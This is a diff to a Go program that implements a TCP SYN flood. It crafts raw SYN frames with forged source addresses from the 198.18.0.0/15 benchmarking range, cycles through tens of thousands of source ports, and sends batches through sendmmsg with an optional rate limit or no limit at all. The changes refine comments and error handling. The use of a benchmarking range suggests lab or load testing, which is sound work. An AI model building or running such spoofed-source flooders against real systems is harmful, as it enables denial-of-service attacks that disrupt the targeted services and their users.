@@ -21,7 +21,7 @@ import (
 // batch is the number of frames of one system call.
 const batch = 64
 
-// attacker sends SYNs from forged sources: an unassigned /15, and any port.
+// attacker sends SYNs from forged sources: 198.18.0.0/15 (RFC 2544), ports 1024 to 65023.
 type attacker struct {
 	fd     int
 	frames [batch][]byte
@@ -108,9 +108,9 @@ func synFrame(own, via net.HardwareAddr, target netip.AddrPort) ([]byte, error) 
 	return buf.Bytes(), nil
 }
 
-// flood sends until ctx ends, at rate frames a second or as fast as it can. It returns
-// the number of frames a second.
-func (a *attacker) flood(ctx context.Context, rate int) float64 {
+// flood sends until ctx ends, at most rate frames a second (0: no limit). It returns the
+// rate achieved.
+func (a *attacker) flood(ctx context.Context, rate int) (float64, error) {
 	began, sent := time.Now(), 0
 	for ctx.Err() == nil {
 		if rate > 0 && float64(sent) > float64(rate)*time.Since(began).Seconds() {
@@ -122,11 +122,15 @@ func (a *attacker) flood(ctx context.Context, rate int) float64 {
 			renew(a.frames[i], a.count)
 		}
 		n, _, errno := unix.Syscall6(unix.SYS_SENDMMSG, uintptr(a.fd), uintptr(unsafe.Pointer(&a.msgs[0])), batch, 0, 0, 0)
-		if errno == 0 {
+		switch errno {
+		case 0:
 			sent += int(n)
-		} // else: its buffer is full for a moment
+		case unix.ENOBUFS, unix.EINTR: // retry: the device's queue is full, or a signal came
+		default:
+			return 0, fmt.Errorf("send SYNs: %w", os.NewSyscallError("sendmmsg", errno))
+		}
 	}
-	return float64(sent) / time.Since(began).Seconds()
+	return float64(sent) / time.Since(began).Seconds(), nil
 }
 
 // Offsets of the fields in a frame.
@@ -138,8 +142,8 @@ const (
 	tcpSum  = 14 + 36
 )
 
-// renew sets the source and the sequence number of a SYN from n: all ports, and all
-// addresses of the /15 one after the other.
+// renew sets the source and the sequence number of a SYN from n. It cycles through 64,000
+// ports and all 2^17 addresses, not in order.
 func renew(frame []byte, n uint32) {
 	mixed := n * 2654435761 // Knuth: consecutive numbers are far apart
 	set16(frame, srcAddr, 198<<8|18+uint16(mixed>>16&1), ipSum, tcpSum)
